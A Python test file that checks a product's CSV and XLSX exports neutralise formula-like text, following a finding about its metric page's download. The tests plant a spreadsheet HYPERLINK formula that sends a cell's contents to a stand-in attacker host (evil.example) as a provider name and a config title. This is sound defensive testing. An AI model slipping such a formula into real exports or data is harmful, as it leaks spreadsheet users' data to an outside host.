"""Every CSV and XLSX the product writes keeps formula-like text as text (issue 22, finding 6).

The snapshot workbook and CSV were safe; the metric page's "Download CSV" wrote an ingested provider
named ``=HYPERLINK("http://…"&A1,…)`` as it was, so a spreadsheet would run it. Text from config (a
title) and from a data source (an area) reaches a cell; each writer puts an apostrophe before text that
starts like a formula (``metrics.cell_text``). The snapshot exports are checked in test_export_cache."""

from __future__ import annotations

import csv
import io
import re
import shutil
import sqlite3
from pathlib import Path

from typer.testing import CliRunner

from cli.main import app as cli
from metrics.cell_text import FORMULA_STARTS

PROJECT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
#: What writes CSV or XLSX: each is checked here or in test_export_cache (the snapshot's CSV and XLSX).
#: sample_data/ writes the seeded synthetic files, which hold no text from config, people or a source.
WRITERS = {"cli/main.py", "dashboard/pages/metric.py", "reports/csv_export.py", "reports/xlsx.py"}


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take for a formula (numbers, negative ones too, are numbers)."""
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", cell)]


def test_every_csv_and_xlsx_writer_is_one_that_is_checked() -> None:
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\b|Workbook\(|to_excel\(|send_data_frame\(")
    found = set()
    for folder in ("app.py", "cli", "cycle", "dashboard", "reports", "review", "snapshots", "metrics", "datasources"):
        for path in [PROJECT / folder] if folder.endswith(".py") else (PROJECT / folder).rglob("*.py"):
            if pattern.search(path.read_text(encoding="utf-8")):
                found.add(str(path.relative_to(PROJECT)))
    assert found == WRITERS, "a new CSV or XLSX writer: make its text formula-safe and check it here"


def test_metric_page_download_keeps_a_formula_provider_name_as_text(live_copy, dash_app, temp_store) -> None:
    from flask import Flask

    from dashboard import context
    from dashboard.pages import metric

    with sqlite3.connect(live_copy.path) as conn:
        conn.execute("INSERT INTO lewisham_ld_outcomes VALUES ('LDX', ?, '2014-05-15', 'housing', 2, 1, 'yes', 'x')",
                     (FORMULA,))
    server = Flask("formula")
    context.install(server, context.AppContext(service=live_copy.new_service(), store=temp_store))
    with server.test_request_context("/"):
        content = metric.download_csv(1, "lew_ld_meta_outcomes_achieved")["content"]
    rows = list(csv.reader(io.StringIO(content)))
    assert any(cell == "'" + FORMULA for row in rows for cell in row), "the provider's row is in the download"
    assert formula_cells(rows) == []


def test_evaluate_csv_keeps_a_formula_title_as_text(tmp_path, monkeypatch, sample_db) -> None:
    config = tmp_path / "config"
    # Not ingest.yaml: its files are the project's.
    shutil.copytree(PROJECT / "config", config, ignore=shutil.ignore_patterns("ingest.yaml"))
    lewisham = config / "frameworks" / "lewisham.yaml"
    text = lewisham.read_text()
    assert text.count('short_title: "Meta outcomes achieved (all)"') == 1
    lewisham.write_text(text.replace('short_title: "Meta outcomes achieved (all)"', f"short_title: '{FORMULA}'"))
    monkeypatch.setenv("OUTCOMES_SAMPLE_DB_URL", f"sqlite:///{sample_db}")
    done = CliRunner().invoke(cli, ["evaluate", "--framework", "lewisham", "--format", "csv", "--config", str(config)])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(done.stdout)))
    reasons = [row[rows[0].index("status_reason")] for row in rows[1:]]
    assert any(reason.startswith("'" + FORMULA) for reason in reasons), "the sentence starts with the title"
    assert formula_cells(rows) == []
